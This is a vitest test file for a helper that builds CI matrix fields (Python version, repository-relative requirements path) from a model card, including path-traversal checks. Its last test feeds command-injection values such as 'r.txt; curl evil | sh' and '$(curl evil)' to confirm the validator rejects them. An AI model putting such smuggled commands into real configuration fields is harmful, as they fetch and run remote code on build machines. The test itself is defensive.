import { describe, expect, it } from "vitest";
import { pythonMatrixFields, pythonSetupOf, requirementsPath } from "../../core/train/python-setup.ts";

describe("training.python → CI matrix fields (Contract A)", () => {
  it("gives empty strings when the card declares no Python environment", () => {
    expect(pythonMatrixFields("churn", undefined)).toEqual({ python_version: "", python_requirements: "" });
    expect(pythonMatrixFields("churn", { version: "3.12" })).toEqual({
      python_version: "3.12",
      python_requirements: "",
    });
  });

  it("makes the requirements path repository-relative", () => {
    expect(pythonMatrixFields("churn", { version: "3.11", requirements: "requirements.txt" })).toEqual({
      python_version: "3.11",
      python_requirements: "models/churn/requirements.txt",
    });
    expect(requirementsPath("churn", "./env/../requirements-ci.txt")).toBe("models/churn/requirements-ci.txt");
    expect(requirementsPath("churn", "../../requirements.txt")).toBe("requirements.txt");
    expect(requirementsPath("churn", "../../../requirements.txt")).toBeUndefined();
    expect(pythonMatrixFields("churn", { requirements: "../../../r.txt" })).toEqual({
      python_version: "",
      python_requirements: "",
    });
  });

  it("sets up setup-python's newest 3.x when the card names requirements but no version", () => {
    expect(pythonMatrixFields("churn", { requirements: "requirements.txt" })).toEqual({
      python_version: "3.x",
      python_requirements: "models/churn/requirements.txt",
    });
  });

  it("keeps only the valid sub-fields of an invalid card's raw training.python", () => {
    expect(pythonSetupOf({ version: "3.12", requirements: "requirements.txt" })).toEqual({
      version: "3.12",
      requirements: "requirements.txt",
    });
    expect(pythonSetupOf({ version: 3.1, requirements: "r.txt; curl evil | sh" })).toEqual({});
    expect(pythonSetupOf({ version: "$(curl evil)", requirements: "ok.txt" })).toEqual({ requirements: "ok.txt" });
    expect(pythonSetupOf("3.12")).toBeUndefined();
    expect(pythonSetupOf(undefined)).toBeUndefined();
  });
});
